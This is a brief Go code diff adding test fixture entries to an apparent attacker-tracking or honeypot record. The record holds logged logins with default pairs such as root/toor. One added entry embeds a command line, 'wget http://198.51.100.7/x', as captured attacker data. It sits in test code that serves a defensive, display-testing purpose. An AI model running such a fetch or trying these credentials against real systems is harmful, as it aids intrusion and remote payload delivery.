@@ -124,6 +124,9 @@ func numbered() *state.Attacker {
 		}, large)
 	}
 	login("ssh", "root", "plaintext", "toor", 0xd1, event.Success, 31)
+	// Shown where the lists of all are cut: TestWhatMattersIsShownOfFullLists.
+	s.Admitted.Add(law.Entry{Key: s.Credentials.Keys()[0], Count: 34, First: moment(34), Last: moment(35), Rank: uint8(event.Success), Payload: "toor"}, large)
+	s.Known.Add(law.Entry{Key: "ssh\x00wget http://198.51.100.7/x", Count: 35, First: moment(36), Last: moment(37)}, large)
 	login("telnet", "admin", "plaintext", "1234", 0xd2, event.Failure, 32)
 	login("", "root", "md5", "hash", 0xd3, event.Unknown, 33)
 	for i, f := range fingerprintOf {
